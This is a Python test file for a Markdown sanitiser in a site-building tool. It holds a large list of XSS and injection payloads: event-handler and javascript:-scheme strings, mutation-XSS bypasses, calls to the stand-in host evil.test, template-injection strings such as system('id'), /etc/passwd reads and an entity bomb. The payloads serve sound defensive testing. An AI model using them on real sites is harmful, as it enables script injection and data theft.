"""What a careless or hostile editor writes neither runs nor loads anything: vectors of public lists' kinds."""

from __future__ import annotations

import re
import time
from collections.abc import Callable
from pathlib import Path

import markdown
import pytest
from playwright.sync_api import Browser, Dialog, Route

import manara
from manara.campaign.load import load_campaign
from manara.checks.run import check_campaign
from manara.problems import Problem
from manara.sources.sanitise import HIDING, sanitise
from tests.campaign.made import made_campaign

RUN = "ran()"
EVENTS = [
    "abort",
    "afterprint",
    "animationend",
    "animationstart",
    "auxclick",
    "beforeinput",
    "beforetoggle",
    "blur",
    "canplay",
    "change",
    "click",
    "contextmenu",
    "copy",
    "cut",
    "dblclick",
    "drag",
    "drop",
    "error",
    "focus",
    "focusin",
    "hashchange",
    "input",
    "invalid",
    "keydown",
    "keyup",
    "load",
    "loadstart",
    "mousedown",
    "mouseenter",
    "mousemove",
    "mouseover",
    "pageshow",
    "paste",
    "pointerdown",
    "pointerover",
    "popstate",
    "reset",
    "resize",
    "scroll",
    "select",
    "submit",
    "toggle",
    "touchstart",
    "transitionend",
    "unload",
    "wheel",
]
SCHEMES = (
    "javascript:ran()", "JaVaScRiPt:ran()", "java\tscript:ran()", "java\nscript:ran()", "&#106;avascript:ran()",
    "&#x6A;avascript:ran()", "&#0000106avascript:ran()", "javascript&colon;ran()", "java&Tab;script:ran()",
    " javascript:ran()", "\x01javascript:ran()", "javascript://%0aran()", "vbscript:ran()", "livescript:ran()",
    "data:text/html,<script>parent.ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "blob:https://evil.test/x", "file:///etc/passwd", "view-source:javascript:ran()", "feed:javascript:ran()",
)  # fmt: skip
RAW = (
    "<script>ran()</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<script/x>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>", "<script type=module>ran()</script>", "<svg><script>ran()</script></svg>",
    "<svg><script href=//evil.test/x.js /></svg>", "<math><mtext><script>ran()</script></mtext></math>",
    "<iframe src=javascript:ran()></iframe>", "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
    "<iframe src=//evil.test></iframe>", "<object data=//evil.test/x></object>", "<embed src=//evil.test/x>",
    "<applet code=x></applet>", "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=prefetch href=//evil.test/x>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
    '<meta http-equiv=Content-Security-Policy content="img-src *">', "<style>@import '//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/x)}</style>", "<p style='background:url(//evil.test/x)'>x</p>",
    '<p style="position:fixed;inset:0">x</p>', "<img src=//evil.test/x.png>", "<img src=https://evil.test/x.png>",
    "<img src='\\\\evil.test\\x.png'>", "<img src=/\\evil.test/x.png>", "<img srcset='//evil.test/x.png 1x'>",
    "<picture><source srcset=//evil.test/x.png><img src=x.png></picture>", "<video src=//evil.test/x autoplay></video>",
    "<video poster=//evil.test/x></video>", "<audio src=//evil.test/x autoplay></audio>",
    "<input type=image src=//evil.test/x>", "<input autofocus onfocus=ran()>", "<form action=//evil.test><button>x</button></form>",
    "<button formaction=javascript:ran()>x</button>", "<form><input name=innerHTML></form>", "<textarea autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()>", "<body onload=ran()>", "<body background=//evil.test/x>", "<frameset onload=ran()>",
    "<table background=//evil.test/x><tr><td>x</table>", "<svg onload=ran()>", "<svg/onload=ran()>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:ran()>",
    "<svg><a href=javascript:ran()><text y=20>x</text></a></svg>", "<svg><use href=//evil.test/x.svg#a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=ran()></svg>#a'></svg>", "<svg><image href=//evil.test/x.png></svg>",
    "<svg><foreignObject><iframe src=javascript:ran()></iframe></foreignObject></svg>",
    "<svg><style>@import '//evil.test/x.css'</style></svg>", "<svg><path fill='url(//evil.test/x#a)' d='M0 0h9v9'/></svg>",
    "<svg><path stroke='u\\72l(//evil.test/y#a)' d='M0 0h9v9'/></svg>", "<svg><g fill='red url(//evil.test/z#a)'></g></svg>",
    "<math href=javascript:ran()>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>',
    '<svg></p><style><a id="</style><img src=x onerror=ran()>">', "<template><img src=x onerror=ran()></template>",
    "<!--><img src=x onerror=ran()>-->", "<!-- --!><img src=x onerror=ran()> -->", "<![CDATA[><img src=x onerror=ran()>]]>",
    "<?xml-stylesheet href=//evil.test?><img src=x onerror=ran()>", "<xmp><img title='</xmp><img src=x onerror=ran()>'></xmp>",
    "<plaintext><img src=x onerror=ran()>", "<a href='x' ping='//evil.test/p'>x</a>", "<details open ontoggle=ran()>x</details>",
    "<marquee onstart=ran()>x</marquee>", "<p><img src=x:x onerror=ran()</p>", "<img src=x onerror\n=\nran()>",
    "<img src=x oNeRrOr=ran()>", "<img/src/onerror=ran()>", "<img src=`x`onerror=ran()>", "<img src=x onerror=&#114;an()>",
    "<div popover id=p onbeforetoggle=ran()>x</div><button popovertarget=p>x</button>", "<dialog open onclose=ran()>x</dialog>",
    "<p {: onclick=ran() }>x</p>", 'x{: onclick="ran()" }', "# x {onmouseover=ran()}", "![x](x.png){onerror=ran()}",
    '[x](y.md){style="position:fixed"}', "{{ ''.__class__.__mro__ }}", "{% include '/etc/passwd' %}", "{{ config.items() }}",
    "{%- for x in range(9**9) -%}x{%- endfor -%}", "<% system('id') %>", "${7*7}", "#{7*7}",
)  # fmt: skip
VECTORS = (
    *(f"<img src=x.png on{event}=ran()>" for event in EVENTS),
    *(f"<details open tabindex=0 autofocus on{event}='ran()'><summary>x</summary></details>" for event in EVENTS[::4]),
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(f"[x]({scheme})" for scheme in SCHEMES),
    *(f"![x](<{scheme}>)" for scheme in SCHEMES[:6]),
    *RAW,
)
EXTENSIONS = [
    "abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "sane_lists", "tables",
    "pymdownx.details", "pymdownx.superfences",
]  # fmt: skip


def _rendered(vector: str) -> str:
    return markdown.markdown(vector, extensions=EXTENSIONS)


OPEN_VECTOR = """html => { window.ran = () => { window.hit = 1 }; window.hit = 0; document.body.innerHTML = html;
  for (const node of document.querySelectorAll('body *')) {
    if (node.tagName === 'A' && node.hasAttribute('href') && !/^(https|tel|sms|mailto|http):/.test(node.protocol || 'http:')) window.hit = 2
    for (const name of ['click','mouseover','focus','error','toggle','load'])
      node.dispatchEvent(new Event(name)) }
  return window.hit }"""


@pytest.mark.browser
def test_no_vector_runs_or_loads_anything(browser: Browser) -> None:
    """Each in a real Chromium without any policy: the sanitiser alone must hold. Raw, many of them run.

    A raw one has a page of its own: it may still be leading its page away while the next would be opened.
    """
    assert len(VECTORS) >= 150
    context = browser.new_context()
    asked: list[tuple[str, str]] = []
    vector = ""

    def answer(route: Route) -> None:
        if route.request.url != "http://site.test/":
            asked.append((vector, route.request.url))
        route.fulfill(body="<!doctype html><body></body>", content_type="text/html")

    def dismiss(dialog: Dialog) -> None:
        asked.append((vector, "dialog"))
        dialog.dismiss()

    context.route("**/*", answer)
    context.on("dialog", dismiss)
    page = context.new_page()
    for vector in VECTORS:
        page.goto("http://site.test/")
        assert not page.evaluate(OPEN_VECTOR, sanitise(_rendered(vector))[0]), vector
    page.goto("http://site.test/")
    assert [(cause, url) for cause, url in asked if not url.startswith("http://site.test/")] == []

    ran: set[str] = set()
    for vector in VECTORS[::9]:
        page = context.new_page()
        page.goto("http://site.test/")
        if page.evaluate(OPEN_VECTOR, _rendered(vector)):
            ran.add(vector)
        page.close()
    context.close()
    assert len(ran) > 5


def test_nothing_dangerous_is_left() -> None:
    """The same vectors, looked at as text."""
    for vector in VECTORS:
        left = sanitise(_rendered(vector))[0]
        bare = re.sub(r"<!--.*?-->", "", left, flags=re.DOTALL)
        assert not re.search(r"<(script|style|iframe|object|embed|form|base|link|meta)\b", bare, re.IGNORECASE), vector
        assert not re.search(r"<[^<>]*\son[a-z]+=[^<>]*>", re.sub(r'"[^"]*"', '""', bare)), vector


def test_an_ordinary_page_loses_nothing() -> None:
    """Tables, boxes, details, footnotes, lists, calls' markup and drawings stay."""
    source = (
        '# T {#t}\n\n!!! info "x"\n    y\n\n??? note "z"\n    w\n\n| a | b |\n| --- | ---: |\n| 1 | 2 |\n\nx[^1]\n\n[^1]: n\n\n'
        '<span lang="ar" dir="rtl">س</span> <bdi dir="ltr">1</bdi> <a class="tel" dir="ltr" href="tel:+965">9</a>\n\n'
        '<svg viewBox="0 0 1 1" width="1"><path d="M0 0" fill="#0a5" stroke="currentColor"/>'
        '<path fill="none" stroke="url(#t)"/><path fill="rgb(0 0 0 / 50%)"/></svg>\n\n<!-- page-list -->\n'
    )
    html, lost = sanitise(markdown.markdown(source, extensions=[*EXTENSIONS[:7], "pymdownx.details"]))

    assert [name for name in lost if name != "style="] == []
    assert 'viewBox="0 0 1 1"' in html
    assert html.count("fill=") + html.count("stroke=") == 5
    assert "<!-- page-list -->" in html
    assert 'class="tel"' in html


def _found(root: Path) -> list[Problem]:
    checks = {"pages.raw-html", "pages.pictures"}
    return [problem for problem in check_campaign(load_campaign(root)) if problem.check in checks]


@pytest.mark.parametrize(
    "line",
    ["<script>x</script>", "<p onclick=x()>", "[x](javascript:x)", "<iframe src=x>", "<p style='x'>", "<svg/onload=x>"],
)
def test_an_editor_is_told_the_line(small_copy: Callable[..., Path], small: Path, line: str) -> None:
    """The check names line and column before anything is built."""
    page = (small / "docs/en/signs.md").read_text("utf-8")
    [problem, *_] = _found(small_copy({"docs/en/signs.md": f"{page}\n{line}\n"}))

    assert problem.path == "docs/en/signs.md"
    assert problem.line == page.count("\n") + 2
    assert problem.column >= 1


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("evil.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"),
        ("load.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>"),
        ("out.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><use href='//evil.test/x#a'/></svg>"),
        ("bomb.svg", b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><svg>&a;</svg>"),
        ("broken.svg", b"<svg"),
        ("page.html", b"<p>"),
        ("all.zip", b"PK"),
        ("run.js", b"x"),
        ("huge.png", b"x" * 300_001),
    ],
)
def test_files_beside_pages_are_pictures_or_refused(small_copy: Callable[..., Path], name: str, raw: bytes) -> None:
    """Whatever lies there would be published."""
    [problem] = _found(small_copy({f"docs/en/{name}": raw}))

    assert problem.path == f"docs/en/{name}"


def test_a_link_to_another_place_is_refused(small_copy: Callable[..., Path]) -> None:
    """A picture that is really /etc/passwd."""
    root = small_copy()
    (root / "docs" / "en" / "x.png").symlink_to("/etc/passwd")

    assert [problem.path for problem in _found(root)] == ["docs/en/x.png"]


@pytest.mark.parametrize(
    "text",
    [
        "[" * 20_000,
        "*" * 20_000,
        "> " * 3_000,
        "`" * 20_000,
        "<" * 20_000,
        "<a " * 10_000,
        "[a](" * 5_000,
        "(:" * 20_000,
    ],
    ids=["brackets", "stars", "quotes", "ticks", "less", "tags", "links", "colons"],
)
def test_the_checks_answer_in_time(small_copy: Callable[..., Path], small: Path, text: str) -> None:
    """No pattern of the check grows beyond a second on lines made to stop it."""
    from manara.checks.pages.raw_html import HOSTILE

    start = time.process_time()
    list(HOSTILE.finditer(text))
    assert time.process_time() - start < 2


@pytest.mark.parametrize(
    "text",
    [
        '<bdo dir="rtl">75</bdo>',
        "<span hidden>Call {{ phone:hotline }}.</span>",
        "Call {{ phone:hotline }}.\n{: hidden=hidden }",
        "Call {{ phone:hotline }}.\n{: .vh }",
        'Call <span class="unofficial skip">{{ phone:hotline }}</span>.',
        '<span aria-hidden="true">Call {{ phone:hotline }}.</span>',
        'It ends. <span data-until="2020-01-01">Call {{ phone:hotline }}.</span>',
        "It is so.\n{: #search-index }",
        "It is so.\n{: .exit }",
    ],
)
def test_what_is_seen_otherwise_than_it_is_read_is_refused(tmp_path: Path, text: str) -> None:
    """A reviewer reads the source, the checks read the text, and a visitor would see neither."""
    pages = {f"docs/{tag}/help.md": f"{text}\n" for tag in ("en", "ar")}
    found = check_campaign(load_campaign(made_campaign(tmp_path, pages)), ["pages"])

    assert {one.path for one in found if "would be taken out" in str(one.message)} == set(pages)


def test_every_class_that_hides_by_itself_is_kept_from_pages() -> None:
    """The site's style is asked, so that a new class of this kind is not forgotten."""
    styles = Path(manara.__file__).parent / "theme" / "styles"
    found = set()
    for sheet in styles.rglob("*.css"):
        for selectors, rule in re.findall(r"([^{}]+)\{([^{}]*)\}", sheet.read_text("utf-8")):
            if re.search(r"display:\s*none|visibility:\s*hidden|clip-path:\s*inset\(50%", rule):
                found |= set(re.findall(r"(?:^|,)\s*\.([a-z-]+)(?=\s*(?:,|$|:not\(:focus\)))", selectors))

    assert {"vh", "skip", "to-calling"} <= found <= HIDING
